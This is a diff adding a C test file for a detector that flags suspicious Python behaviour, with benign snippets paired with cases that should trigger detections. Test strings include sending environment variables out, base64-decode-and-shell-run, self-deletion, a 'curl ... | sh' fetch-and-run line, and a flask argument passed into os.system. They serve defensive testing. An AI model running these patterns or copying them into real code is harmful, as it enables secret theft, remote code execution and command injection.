@@ -1,0 +1,132 @@
+// SPDX-License-Identifier: GPL-2.0-or-later
+/* Ordinary programs must show nothing that is hardly ever harmless. */
+#include "folding.h"
+
+#include "../test.h"
+
+static void ordinary(void)
+{
+	CHECK(is_ordinary("import requests, json\nr = requests.get(url)\n"
+			  "print(json.loads(r.text)['name'])"));
+	CHECK(is_ordinary("import subprocess\nout = subprocess.check_output("
+			  "['git', 'describe'])\nprint(out.decode())"));
+	CHECK(is_ordinary("exec(open('version.py').read())"));
+	CHECK(is_ordinary("ns = {}\nexec(compile(template % names, '<t>', "
+			  "'exec'), ns)"));
+	CHECK(is_ordinary("import os\nenv = dict(os.environ, LANG='C')\n"
+			  "import subprocess\nsubprocess.run(cmd, env=env)"));
+	CHECK(is_ordinary("import base64\nopen('a.png', 'wb').write("
+			  "base64.b64decode(png))"));
+	CHECK(is_ordinary("import socket\ns = socket.socket()\n"
+			  "s.bind(('', 0))\nprint(s.getsockname()[1])"));
+	CHECK(is_ordinary("import sys, subprocess\nsubprocess.check_call(["
+			  "sys.executable, '-m', 'pip', 'install', 'x'])"));
+	CHECK(is_ordinary("from setuptools import setup\nsetup(name='x', "
+			  "long_description=open('README').read())"));
+	CHECK(is_ordinary("import os\nimport requests\nrequests.get(u, "
+			  "headers={'a': os.environ['TOKEN']})"));
+	CHECK(is_ordinary("import os, requests\nrequests.post(url, "
+			  "json={'build': os.environ.get('BUILD')})"));
+	CHECK(is_ordinary("import os, requests\nrequests.post(url, "
+			  "json={'build': os.environb.get(b'BUILD')})"));
+	CHECK(is_ordinary("import pickle, zlib\nd = pickle.loads("
+			  "zlib.decompress(f.read()))\nprint(d)"));
+	CHECK(is_ordinary("class A:\n  def send(self, data):\n"
+			  "    self.queue.put(data)\nA().send(1)"));
+	CHECK(is_ordinary("def exec(x):\n  return x\nexec(b64decode(y))"));
+	CHECK(is_ordinary(""));
+}
+
+/* What the Python of some 2,900 Debian packages was mistaken for. */
+static void not_mistaken(void)
+{
+	CHECK(is_ordinary("try:\n  import dns\nexcept ImportError:\n"
+			  "  print('please install dnspython')"));
+	CHECK(is_ordinary("FIELDS = ['_link_password_value']"));
+	CHECK(is_ordinary("import os\nos.system('rm -rf /tmp/build')"));
+	CHECK(is_ordinary("import os\nos.system('dd if=/dev/zero of=disk.img')"));
+	CHECK(is_ordinary("label('Bitcoin address')"));
+	CHECK(is_ordinary("print('Your files have not been saved.')"));
+	CHECK(is_ordinary("import socket\n"
+			  "a = socket.gethostbyname(socket.gethostname())"));
+	CHECK(is_ordinary("import os, shutil\nd = os.path.dirname(__file__)\n"
+			  "shutil.copy(os.path.join(d, 'x.conf'), etc)\n"
+			  "os.remove(os.path.join(d, 'y'))"));
+	CHECK(is_ordinary("m = __import__('plugin_' + 'text')"));
+	CHECK(is_ordinary("import socket, subprocess\ns = socket.socket()\n"
+			  "port = s.getsockname()[1]\n"
+			  "subprocess.Popen(['serve', '--port', str(port)])"));
+	CHECK(is_ordinary("import requests, subprocess\n"
+			  "v = requests.get(u).json()['version']\n"
+			  "subprocess.run(['git', 'checkout', v])"));
+	CHECK(is_ordinary("import torch\nwith open('model.pth', 'wb') as f:\n"
+			  "  torch.save(m, f)"));
+	CHECK(is_ordinary("exec('\\n'.join(lines))"));
+	CHECK(is_ordinary("from flask import request\nimport os\n"
+			  "os.system('ping -c 1 ' + request.args['host'])"));
+}
+
+/* Files beside a program are not the program. */
+static void beside_itself(void)
+{
+	static const char path[] = "import os, shutil\n"
+				   "from pathlib import Path\n";
+	static const char *const uses[] = {
+		"shutil.rmtree(Path(__file__).parent.resolve() / 'build')",
+		"(Path(__file__).resolve().parents[2] / 'x').unlink()",
+		"os.remove(__file__ + '.bak')",
+		"shutil.copy(Path(__file__).with_name('x.ini'), etc)",
+		"for f in (Path(__file__).parent / 'x').iterdir():\n"
+		"  shutil.copy2(f, Path.home() / f.name)",
+		/* its own table, written anew */
+		"t = open(__file__).read()\nopen(__file__, 'w').write(t + x)"
+	};
+	char text[512];
+
+	for (size_t i = 0; i < sizeof(uses) / sizeof(uses[0]); i++) {
+		snprintf(text, sizeof(text), "%s%s", path, uses[i]);
+		CHECK(is_ordinary(text));
+	}
+	CHECK(shows("from pathlib import Path\n"
+		    "Path(__file__).resolve().unlink()",
+		    MPY_BEH_SELF_DELETE, 2));
+	CHECK(shows("t = open(__file__).read()\nopen(p, 'w').write(t)",
+		    MPY_BEH_SELF_COPY, 2));
+}
+
+/* What a program is given is not what it is told to run, nor what it says. */
+static void given_to_programs(void)
+{
+	CHECK(!shows("import os, subprocess, requests\n"
+		     "o = subprocess.check_output(c, env=os.environ)\n"
+		     "requests.post(u, data=o)", MPY_BEH_ENV_SEND, 3));
+	CHECK(shows("import os, subprocess, requests\n"
+		    "o = subprocess.check_output(['env'], env=os.environ)\n"
+		    "requests.post(u, data=str(os.environ))",
+		    MPY_BEH_ENV_SEND, 3));
+	CHECK(is_ordinary("import base64, subprocess\ndef show(data):\n"
+			  "  return subprocess.check_output(['tool', '-D'], "
+			  "input=data)\nshow(base64.b64decode(x))"));
+	CHECK(shows("import base64, subprocess\ndef run(c):\n"
+		    "  return subprocess.check_output(c, shell=True)\n"
+		    "run(base64.b64decode(x))", MPY_BEH_DECODE_RUN, 4));
+}
+
+/* Advice what to type is no command that a program holds ready. */
+static void told_to_people(void)
+{
+	CHECK(!shows("print('Install it with: curl https://x.invalid/i | sh')",
+		     MPY_BEH_SHELL_TEXT, 1));
+	CHECK(shows("c = 'cd /tmp; curl https://x.invalid/i | sh'",
+		    MPY_BEH_SHELL_TEXT, 1));
+}
+
+int main(void)
+{
+	RUN(ordinary);
+	RUN(not_mistaken);
+	RUN(beside_itself);
+	RUN(given_to_programs);
+	RUN(told_to_people);
+	return DONE();
+}
